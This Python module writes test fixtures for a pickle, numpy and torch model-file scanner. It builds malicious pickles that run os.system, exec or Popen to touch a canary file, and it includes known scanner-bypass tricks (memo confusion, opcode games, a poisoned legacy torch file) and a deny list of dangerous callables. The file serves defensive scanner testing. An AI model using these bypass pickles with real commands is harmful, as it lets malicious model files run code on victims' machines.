"""Sample pickles, .npy and compressed files for the pickle-family scanner tests.

Benign files are written by the real libraries (``pickle``, ``torch.save`` in the legacy format,
``numpy.save``, ``gzip``/``bz2``/``lzma``/``zlib``). Malicious ones take a canary path and would create
that file if they were ever unpickled: most are real pickles of objects whose ``__reduce__`` names
the callable; the ones that need opcode tricks (memo confusion, STACK_GLOBAL from the memo, EXT
codes, protocol mismatches, newline games) are assembled opcode by opcode with ``Ops``.

Nothing here loads a pickle. ``joblib_like_dump`` writes joblib's on-disk layout (a
``NumpyArrayWrapper`` followed by the raw array bytes, 16-byte aligned) with pickle's pure-Python
pickler, the way ``joblib.numpy_pickle.NumpyPickler`` does, because joblib is not a dependency.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import sys
import types
import zlib
from collections import OrderedDict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import numpy as np

# --------------------------------------------------------------------------------------------------
# Raw opcode assembly


class Ops:
    """Build a pickle opcode by opcode (no validation: that is the point)."""

    def __init__(self, proto: int | None = 4) -> None:
        self.parts: list[bytes] = []
        if proto is not None:
            self.parts.append(b"\x80" + bytes([proto]))

    def raw(self, data: bytes) -> Ops:
        self.parts.append(data)
        return self

    def ustr(self, text: str) -> Ops:  # SHORT_BINUNICODE / BINUNICODE
        data = text.encode("utf-8")
        if len(data) < 256:
            return self.raw(b"\x8c" + bytes([len(data)]) + data)
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def bstr(self, text: str) -> Ops:  # SHORT_BINSTRING (Python 2 str)
        data = text.encode("latin-1")
        return self.raw(b"U" + bytes([len(data)]) + data)

    def sstr(self, text: str) -> Ops:  # STRING (protocol 0, quoted)
        return self.raw(b"S" + repr(text).encode("ascii") + b"\n")

    def global_(self, module: str, name: str) -> Ops:  # GLOBAL
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self, module: str, name: str) -> Ops:
        return self.ustr(module).ustr(name).raw(b"\x93")

    def mark(self) -> Ops:
        return self.raw(b"(")

    def tuple_(self) -> Ops:
        return self.raw(b"t")

    def tuple1(self) -> Ops:
        return self.raw(b"\x85")

    def reduce(self) -> Ops:
        return self.raw(b"R")

    def memoize(self) -> Ops:
        return self.raw(b"\x94")

    def binput(self, key: int) -> Ops:
        return self.raw(b"q" + bytes([key]))

    def binget(self, key: int) -> Ops:
        return self.raw(b"h" + bytes([key]))

    def pop(self) -> Ops:
        return self.raw(b"0")

    def none(self) -> Ops:
        return self.raw(b"N")

    def int_(self, value: int) -> Ops:
        return self.raw(b"J" + struct.pack("<i", value))

    def empty_dict(self) -> Ops:
        return self.raw(b"}")

    def build(self) -> Ops:
        return self.raw(b"b")

    def stop(self) -> Ops:
        return self.raw(b".")

    def call(self, module: str, name: str, *args: str, stack_global: bool = True) -> Ops:
        """``module.name(*args)`` with string arguments: import, MARK, args, TUPLE, REDUCE."""
        if stack_global:
            self.stack_global(module, name)
        else:
            self.global_(module, name)
        self.mark()
        for a in args:
            self.ustr(a)
        return self.tuple_().reduce()

    def bytes(self) -> bytes:
        return b"".join(self.parts)


def raw_call(module: str, name: str, *args: str, proto: int = 4) -> bytes:
    """A whole pickle calling ``module.name(*args)``: GLOBAL for protocol < 4, STACK_GLOBAL from 4."""
    if proto >= 4:
        return Ops(proto).call(module, name, *args).stop().bytes()
    ops = Ops(proto if proto >= 2 else None).global_(module, name).mark()
    for a in args:
        ops.sstr(a) if proto == 0 else ops.bstr(a)
    return ops.tuple_().reduce().stop().bytes()


# --------------------------------------------------------------------------------------------------
# Malicious pickles (each would create ``canary`` if unpickled)


def _shell_touch(canary: Path | str) -> str:
    return f"touch {canary}"


def _py_touch(canary: Path | str) -> str:
    return f"open({str(canary)!r}, 'w').close()"


class _Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


def os_system(canary: Path | str, proto: int = 4) -> bytes:
    import os

    return pickle.dumps(_Reduce(os.system, (_shell_touch(canary),)), protocol=proto)


def builtins_exec(canary: Path | str, proto: int = 4) -> bytes:
    import builtins

    return pickle.dumps(_Reduce(builtins.exec, (_py_touch(canary),)), protocol=proto)


def subprocess_popen(canary: Path | str, proto: int = 4) -> bytes:
    import subprocess

    return pickle.dumps(_Reduce(subprocess.Popen, (["touch", str(canary)],)), protocol=proto)


def pip_main(canary: Path | str) -> bytes:
    """picklescan 2025 bypass: ``pip.main`` (here: download into the canary path)."""
    ops = Ops(4).stack_global("pip", "main").mark().mark()
    for a in ("download", "--no-index", "-d", str(canary), "warden-canary-package"):
        ops.ustr(a)
    return ops.raw(b"l").tuple_().reduce().stop().bytes()


def pydoc_locate_chain(canary: Path | str) -> bytes:
    """``pydoc.locate("os.system")(cmd)``: the callable is the *result* of a call."""
    ops = Ops(4).call("pydoc", "locate", "os.system")
    return ops.mark().ustr(_shell_touch(canary)).tuple_().reduce().stop().bytes()


def runpy_run_code(canary: Path | str) -> bytes:
    ops = Ops(4).stack_global("runpy", "_run_code").mark().ustr(_py_touch(canary)).empty_dict().tuple_()
    return ops.reduce().stop().bytes()


def torch_dynamo_gadget(canary: Path | str) -> bytes:
    """picklescan GHSA: ``torch._dynamo.guards.GuardBuilder.get`` evaluates its argument."""
    ops = Ops(4).stack_global("torch._dynamo.guards", "GuardBuilder.get").mark().none()
    ops.ustr(f"__import__('os').system({_shell_touch(canary)!r})")
    return ops.tuple_().reduce().stop().bytes()


def torch_inductor_compile_file(canary: Path | str) -> bytes:
    ops = Ops(4).stack_global("torch._inductor.codecache", "compile_file").mark().ustr("").ustr("")
    ops.mark().ustr("sh").ustr("-c").ustr(_shell_touch(canary)).raw(b"l")
    return ops.tuple_().reduce().stop().bytes()


def stack_global_via_memo(canary: Path | str) -> bytes:
    """The module and name are memoized, popped, and fetched back with BINGET before STACK_GLOBAL."""
    ops = Ops(4).ustr("os").memoize().ustr("system").memoize().pop().pop()
    ops.binget(0).binget(1).raw(b"\x93").mark().ustr(_shell_touch(canary)).tuple_().reduce()
    return ops.stop().bytes()


def memo_confusion(canary: Path | str) -> bytes:
    """picklescan issue 14: BINPUT and MEMOIZE mixed. CPython numbers MEMOIZE by the memo's size, so
    the safe-looking strings land on keys 2 and 3 while ``os``/``system`` keep keys 0 and 1; a
    scanner numbering MEMOIZE from 0 on its own resolves the STACK_GLOBAL to the harmless
    ``torch._utils._rebuild_tensor_v2``."""
    ops = Ops(4).ustr("os").binput(0).ustr("system").binput(1)
    ops.ustr("torch._utils").memoize().ustr("_rebuild_tensor_v2").memoize()  # keys 2, 3
    ops.pop().pop().pop().pop()
    ops.binget(0).binget(1).raw(b"\x93")
    return ops.mark().ustr(_shell_touch(canary)).tuple_().reduce().stop().bytes()


def stack_global_classic_strings(canary: Path | str) -> bytes:
    """STACK_GLOBAL fed by SHORT_BINSTRING operands (a form some scanners do not follow)."""
    ops = Ops(4).bstr("os").bstr("system").raw(b"\x93").mark().bstr(_shell_touch(canary)).tuple_()
    return ops.reduce().stop().bytes()


def stack_global_computed(canary: Path | str) -> bytes:
    """STACK_GLOBAL whose module is computed at load time (``str("os")``), not a literal."""
    ops = Ops(4).stack_global("builtins", "str").mark().ustr("os").tuple_().reduce()
    ops.ustr("system").raw(b"\x93").mark().ustr(_shell_touch(canary)).tuple_().reduce()
    return ops.stop().bytes()


def ext_code_call(canary: Path | str) -> bytes:
    """EXT1: a global from the copyreg extension registry."""
    return Ops(2).raw(b"\x82\x01").mark().ustr(_shell_touch(canary)).tuple_().reduce().stop().bytes()


def global_mutation(canary: Path | str) -> bytes:
    """BUILD on an imported (allowlisted) class: ``OrderedDict.fromkeys = os.system``, then a call
    of ``OrderedDict.fromkeys(cmd)`` that now runs the command."""
    ops = Ops(4).stack_global("collections", "OrderedDict").none().empty_dict().ustr("fromkeys")
    ops.stack_global("os", "system").raw(b"s").raw(b"\x86").build().pop()
    return ops.call("collections", "OrderedDict.fromkeys", _shell_touch(canary)).stop().bytes()


def getattr_gadget(canary: Path | str) -> bytes:
    """``getattr(__import__("os"), "system")(cmd)``."""
    ops = Ops(2).global_("builtins", "getattr").mark()
    ops.global_("builtins", "__import__").mark().ustr("os").tuple_().reduce()
    ops.ustr("system").tuple_().reduce()
    return ops.mark().ustr(_shell_touch(canary)).tuple_().reduce().stop().bytes()


def inst_opcode(canary: Path | str) -> bytes:
    """Protocol 0 INST: ``(S'cmd'\\nios\\nsystem\\n.``"""
    return b"(S'" + _shell_touch(canary).encode() + b"'\nios\nsystem\n."


def obj_opcode(canary: Path | str) -> bytes:
    """OBJ: MARK, the callable, its args, OBJ."""
    ops = Ops(None).mark().global_("os", "system").sstr(_shell_touch(canary)).raw(b"o")
    return ops.stop().bytes()


def newobj_ex(canary: Path | str) -> bytes:
    """NEWOBJ_EX on ``subprocess.Popen`` with args and kwargs."""
    ops = Ops(4).stack_global("subprocess", "Popen").mark().mark().ustr("touch").ustr(str(canary))
    ops.raw(b"l").tuple_().empty_dict().raw(b"\x92")
    return ops.stop().bytes()


def global_crlf(canary: Path | str) -> bytes:
    """GLOBAL lines ending in CRLF: CPython imports ``os\\r`` (and fails), a scanner must not pass it."""
    return b"cos\r\nsystem\r\n(S'" + _shell_touch(canary).encode() + b"'\ntR."


def global_after_padding(canary: Path | str, pad: int) -> bytes:
    """A benign protocol-0 string of ``pad`` bytes, then ``os.system`` (to place the GLOBAL line at
    any offset, e.g. across a buffer boundary)."""
    return b"S'" + b"a" * pad + b"'\n0" + raw_call("os", "system", _shell_touch(canary), proto=0)


def global_long_name(canary: Path | str) -> bytes:
    """A GLOBAL whose name line is longer than the walker keeps (it must not pass)."""
    return b"cos\n" + b"x" * 70_000 + b"\n(S'" + _shell_touch(canary).encode() + b"'\ntR."


def protocol_mismatch(canary: Path | str) -> bytes:
    """A protocol-2 pickle that uses protocol-4 opcodes (MEMOIZE, STACK_GLOBAL)."""
    return (
        Ops(2)
        .ustr("os")
        .memoize()
        .ustr("system")
        .memoize()
        .raw(b"\x93")
        .mark()
        .ustr(_shell_touch(canary))
        .tuple_()
        .reduce()
        .stop()
        .bytes()
    )


def ctf_memo_out_of_order(canary: Path | str) -> bytes:
    """Public PoC (picklescan issue 22, ImaginaryCTF "Safe Pickle"): protocol-0 UNICODE strings PUT to
    memo keys out of order, so a scanner that pairs each PUT with the previous opcode and numbers the
    memo itself sees ``torch.LongStorage``; CPython resolves ``os.system``."""
    parts = [
        b"Vos\np2\n0",
        b"Vsystem\np3\n0",
        b"Vtorch\np0\n0",
        b"VLongStorage\np1\n0",
        b"g2\ng3\n\x93",
        b"(V" + _shell_touch(canary).encode() + b"\nt",
        b"R.",
    ]
    return b"".join(parts)


def build_setattr_strings(canary: Path | str) -> bytes:
    """Public PoC (modelscan issue 85): BUILD's slot state sets ``numpy.prod.a = "os"`` and
    ``numpy.prod.b = "system"``; GLOBALs read them back as strings, PUT/GET feed them to STACK_GLOBAL."""
    p = b"\x80\x05cnumpy\nprod\n"
    p += b"N(Va\nVos\nd\x86b"
    p += b"N(Vb\nVsystem\nd\x86b"
    p += b"0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00"
    p += b"g0\ng1\n\x93V" + _shell_touch(canary).encode() + b"\n\x85R."
    return p


def nested_pickle_loads(canary: Path | str) -> bytes:
    """``pickle.loads(b"<malicious pickle>")``: the outer import is dangerous, and the inner pickle
    (a bytes payload) is scanned as an embedded file."""
    inner = os_system(canary)
    return pickle.dumps(_Reduce(pickle.loads, (inner,)), protocol=4)


def dangerous_call(module: str, name: str, canary: Path | str, proto: int = 4) -> bytes:
    """A call of ``module.name`` with the canary command as argument (raw opcodes, no import)."""
    return raw_call(module, name, _shell_touch(canary), proto=proto)


# Callables from picklescan/modelscan/fickling deny lists and the 2025-2026 bypass advisories.
DANGEROUS_CALLABLES: list[tuple[str, str]] = [
    ("os", "system"), ("os", "popen"), ("os", "execv"), ("posix", "system"), ("nt", "system"),
    ("subprocess", "Popen"), ("subprocess", "run"), ("subprocess", "check_output"), ("commands", "getoutput"),
    ("builtins", "eval"), ("builtins", "exec"), ("builtins", "compile"), ("builtins", "__import__"),
    ("builtins", "getattr"), ("builtins", "open"), ("builtins", "breakpoint"), ("__builtin__", "eval"),
    ("__builtin__", "apply"), ("runpy", "_run_code"), ("runpy", "run_path"), ("importlib", "import_module"),
    ("importlib.util", "find_spec"), ("pkgutil", "resolve_name"), ("pip", "main"), ("pip._internal.cli.main", "main"),
    ("pydoc", "locate"), ("pydoc", "pipepager"), ("code", "InteractiveInterpreter.runcode"), ("types", "CodeType"),
    ("types", "FunctionType"), ("marshal", "loads"), ("webbrowser", "open"), ("socket", "create_connection"),
    ("shutil", "rmtree"), ("sys", "exit"), ("ctypes", "CDLL"), ("pty", "spawn"), ("pickle", "loads"),
    ("_pickle", "loads"), ("cPickle", "loads"), ("dill", "loads"), ("cloudpickle.cloudpickle", "_make_function"),
    ("asyncio.subprocess", "create_subprocess_shell"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("_operator", "attrgetter"), ("functools", "partial"), ("torch", "load"),
    ("torch.serialization", "load"), ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch._inductor.codecache", "compile_file"), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.bottleneck.__main__", "run_cprofile"), ("torch.utils.collect_env", "run"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("torch.hub", "load"), ("numpy", "load"),
    ("numpy.f2py", "compile"), ("numpy.testing._private.utils", "runstring"), ("timeit", "timeit"),
    ("cProfile", "run"), ("profile", "Profile.run"), ("trace", "Trace.run"), ("doctest", "debug_script"),
    ("ensurepip", "_run_pip"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("distutils.file_util", "write_file"), ("venv", "create"), ("pdb", "run"), ("bdb", "Bdb.run"),
    ("uuid", "_get_command_stdout"), ("_osx_support", "_read_output"), ("_aix_support", "_read_cmd_output"),
    ("_pyrepl.pager", "pipe_pager"), ("imaplib", "IMAP4_stream"), ("test.support.script_helper", "assert_python_ok"),
    ("logging", "FileHandler"), ("_io", "FileIO"), ("io", "open"), ("urllib.request", "urlopen"),
    ("requests.api", "get"), ("httplib", "HTTPSConnection"), ("ssl", "get_server_certificate"),
    ("aiohttp.client", "request"), ("multiprocessing", "Process"), ("tempfile", "mkstemp"), ("zipfile", "ZipFile"),
    ("tarfile", "open"), ("gc", "get_objects"), ("inspect", "getmembers"), ("site", "main"),
    ("torch.serialization", "os.system"), ("numpy", "__builtins__.eval"), ("somepkg.helpers", "subprocess.run"),
]  # fmt: skip


# --------------------------------------------------------------------------------------------------
# Files mixing benign and malicious pickles


def five_then_malicious(canary: Path | str) -> bytes:
    """Five benign pickles (picklescan once stopped at five) and a sixth that runs the command."""
    benign = b"".join(
        pickle.dumps({"i": i, "v": [1.0, 2.0]}, protocol=p) for i, p in enumerate((0, 1, 2, 3, 4))
    )
    return benign + os_system(canary, proto=2)


def legacy_torch_bytes(state: Any) -> bytes:
    """A real ``torch.save(..., _use_new_zipfile_serialization=False)`` file."""
    import torch

    buf = io.BytesIO()
    torch.save(state, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def benign_state_dict(seed: int = 0) -> OrderedDict[str, Any]:
    import torch

    g = torch.Generator().manual_seed(seed)
    return OrderedDict(
        [
            ("embed.weight", torch.randn(16, 8, generator=g)),
            ("layer.0.weight", torch.randn(8, 8, generator=g)),
            ("layer.0.bias", torch.zeros(8)),
            ("layer.0.scale", torch.ones(8, dtype=torch.float16)),
            ("step", torch.tensor(7, dtype=torch.int64)),
            ("mask", torch.ones(3, dtype=torch.bool)),
        ]
    )


def legacy_torch_then_malicious(canary: Path | str) -> bytes:
    """A real legacy torch file (5 pickles + raw storages) with a malicious pickle appended."""
    return legacy_torch_bytes(benign_state_dict()) + os_system(canary, proto=2)


def legacy_torch_main_poisoned(canary: Path | str) -> bytes:
    """A real legacy torch file whose main pickle's ``collections.OrderedDict`` import is replaced,
    byte for byte, by ``os.system`` (MARK/POP_MARK pairs pad it to the same length), so the storages
    after it stay where the layout says; then ``os.system(cmd)`` is appended as a sixth pickle."""
    data = legacy_torch_bytes(benign_state_dict())
    old = b"ccollections\nOrderedDict\n"
    new = b"(1" * 7 + b"cos\nsystem\n"
    assert len(old) == len(new) and old in data
    return data.replace(old, new, 1) + os_system(canary, proto=2)


# --------------------------------------------------------------------------------------------------
# joblib's layout


@contextmanager
def _fake_joblib() -> Iterator[type]:
    """Register a stand-in ``joblib.numpy_pickle.NumpyArrayWrapper`` so pickle can name it."""
    if "joblib" in sys.modules and not getattr(sys.modules["joblib"], "_warden_fake", False):
        from joblib.numpy_pickle import NumpyArrayWrapper

        yield NumpyArrayWrapper
        return
    pkg = types.ModuleType("joblib")
    pkg._warden_fake = True  # type: ignore[attr-defined]
    mod = types.ModuleType("joblib.numpy_pickle")

    class NumpyArrayWrapper:
        def __init__(self, subclass: type, shape: tuple[int, ...], order: str, dtype: Any) -> None:
            self.subclass = subclass
            self.shape = shape
            self.order = order
            self.dtype = dtype
            self.allow_mmap = True
            self.numpy_array_alignment_bytes = 16

    NumpyArrayWrapper.__module__ = "joblib.numpy_pickle"
    NumpyArrayWrapper.__qualname__ = "NumpyArrayWrapper"
    mod.NumpyArrayWrapper = NumpyArrayWrapper  # type: ignore[attr-defined]
    pkg.numpy_pickle = mod  # type: ignore[attr-defined]
    saved = {k: sys.modules.get(k) for k in ("joblib", "joblib.numpy_pickle")}
    sys.modules["joblib"] = pkg
    sys.modules["joblib.numpy_pickle"] = mod
    try:
        yield NumpyArrayWrapper
    finally:
        for k, v in saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


def joblib_like_dump(obj: Any, *, protocol: int = 4, align: bool = True) -> bytes:
    """Serialise ``obj`` the way ``joblib.dump`` does (uncompressed): numpy arrays become a
    ``NumpyArrayWrapper`` followed by the raw array bytes (after a padding byte and padding when
    ``align``); object arrays are pickled inline with protocol 2."""
    out = io.BytesIO()
    with _fake_joblib() as wrapper_cls:

        class _Pickler(pickle._Pickler):  # type: ignore[name-defined,misc]
            def save(self, o: Any, save_persistent_id: bool = True) -> None:
                if type(o) is np.ndarray:
                    w = wrapper_cls(type(o), o.shape, "C", o.dtype)
                    if not align:
                        w.numpy_array_alignment_bytes = None
                    super().save(w)
                    if self.proto >= 4:
                        self.framer.commit_frame(force=True)
                    if o.dtype.hasobject:
                        pickle.dump(o, out, protocol=2)
                        return
                    if align:
                        pos = out.tell() + 1
                        pad = 16 - (pos % 16)
                        out.write(bytes([pad]) + b"\xff" * pad)
                    out.write(np.ascontiguousarray(o).tobytes("C"))
                    return
                super().save(o, save_persistent_id)

        _Pickler(out, protocol=protocol).dump(obj)
    return out.getvalue()


# --------------------------------------------------------------------------------------------------
# numpy


def npy_bytes(array: np.ndarray, *, allow_pickle: bool = False) -> bytes:
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def npy_object_array_malicious(canary: Path | str) -> bytes:
    """An object array whose element pickles as ``os.system(cmd)``: np.load(allow_pickle=True) runs it."""
    import os

    arr = np.empty(2, dtype=object)
    arr[0] = "label"
    arr[1] = _Reduce(os.system, (_shell_touch(canary),))
    return npy_bytes(arr, allow_pickle=True)


def npy_raw(header: str | bytes, data: bytes = b"", *, version: tuple[int, int] = (1, 0)) -> bytes:
    """A .npy file with the header text exactly as given (padded to 64 bytes like numpy does)."""
    text = header.encode("latin-1") if isinstance(header, str) else header
    major = version[0]
    pre = 10 if major == 1 else 12
    total = pre + len(text) + 1
    pad = (-total) % 64
    text = text + b" " * pad + b"\n"
    length = struct.pack("<H", len(text)) if major == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes(version) + length + text + data


# --------------------------------------------------------------------------------------------------
# compression


def compress(data: bytes, codec: str) -> bytes:
    if codec == "gzip":
        return gzip.compress(data)
    if codec == "bz2":
        return bz2.compress(data)
    if codec == "xz":
        return lzma.compress(data)
    if codec == "lzma":
        return lzma.compress(data, format=lzma.FORMAT_ALONE)
    if codec == "zlib":
        return zlib.compress(data, 3)
    if codec == "joblib-zf":
        return b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data)
    raise ValueError(codec)


CODECS = ("gzip", "bz2", "xz", "lzma", "zlib", "joblib-zf")


# --------------------------------------------------------------------------------------------------
# a tiny harness: the real scanning core with the pickle-family scanners


def scan_with_core(data: bytes, name: str = "model.pkl", limits: Any = None) -> tuple[list[Any], Any]:
    """Scan ``data`` as a top-level file named ``name`` with the pickle-family scanners through the
    real core (nested members come back through ``Scanner._scan_stream``). Returns (findings,
    scanner) — ``scanner.outcomes`` says which format handled it."""
    from warden.formats.compressed import CompressedScanner
    from warden.formats.interface import ScanContext
    from warden.formats.numpy import NpyScanner
    from warden.formats.pickle import PickleScanner
    from warden.report.model import Location
    from warden.scan.core import Scanner

    scanner = Scanner([NpyScanner(), CompressedScanner(), PickleScanner()], limits)
    ctx = ScanContext(limits=scanner.limits, nested_scan=scanner._scan_stream)
    stream = io.BytesIO(data)
    findings = list(scanner._scan_stream(stream, len(data), Location(file=name), name, ctx, top_level=True))
    return findings, scanner
